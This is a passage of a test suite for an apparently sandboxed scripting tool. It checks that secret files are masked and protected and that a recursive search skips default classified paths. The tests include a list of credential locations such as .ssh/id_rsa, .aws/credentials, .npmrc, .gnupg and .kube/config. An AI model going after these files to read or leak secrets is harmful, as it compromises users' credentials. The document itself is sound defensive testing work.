    expect(attemptOf(found, "ordinary write")).toEqual({ status: "ok", value: "fine" });
    expect(attemptOf(found, "ordinary mkdir")).toEqual({ status: "ok", value: true });
    expectSecretsUnchanged(world);
    for (const name of [".env.local", ".ssh/new", ".ssh/sub", "secrets/new", "src/.ssh", ".env.copy", "secrets/copy.txt"]) {
      expect(existsSync(path.join(world.root, name)), name).toBe(false);
    }
    expect(r.stdout).toContain(`secret: ${MASK}\n`);
    expect(readFileSync(world.sink, "utf8")).toContain(`secret: API_KEY=${world.canary}\nDEBUG=1\n`);
    expectOnlyInClassifiedAndSink(world, r);
  });
});

describe("default classified paths", () => {
  it("apply when --classified-paths is not given; grepRecursive never opens a classified file", async () => {
    const world = secretWorld();
    writeTree(world.root, {
      ".env.local": "x",
      ".envrc": "x",
      ".aws/credentials": "x",
      "deep/er/.npmrc": "x",
      "deep/.gnupg/k": "x",
      "deep/.kube/config": "x",
    });
    // Named pipes with no writer: opening one for reading would block the search for good.
    execFileSync("mkfifo", [path.join(world.root, ".ssh/agent.fifo"), path.join(world.root, ".env.fifo")]);
    const names = [".env", ".env.local", ".envrc", ".ssh/id_rsa", ".aws/credentials", "deep/er/.npmrc", "deep/.gnupg/k", "deep/.kube/config", "secrets/key.txt", "plain.txt"];
    const script = `
requestFileSystem(".", (fs) => {
  println(JSON.stringify(${JSON.stringify(names)}.map((n) => [n, fs.access(n).isClassified])));
  println(JSON.stringify([...new Set(fs.grepRecursive(".", ".").map((m) => m.file))]));
});
`;
    const r = await tacit(world.root, script, ["--exec-timeout-ms", "10000"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const [classified, searched] = r.stdout.trim().split("\n").map((line) => JSON.parse(line));
    expect(Object.fromEntries(classified)).toEqual({
      ".env": true,
      ".env.local": true,
      ".envrc": false,
      ".ssh/id_rsa": true,
      ".aws/credentials": true,
      "deep/er/.npmrc": true,
      "deep/.gnupg/k": true,
      "deep/.kube/config": true,
      "secrets/key.txt": false,
      "plain.txt": false,
    });
    // Without "secrets" among the patterns, secrets/ is an ordinary directory.
    expect(searched).toEqual([".envrc", "plain.txt", "secrets/key.txt", "secrets/nested/deep.txt", "src/app.ts"].map((n) => path.join(world.root, n)));
  });
});
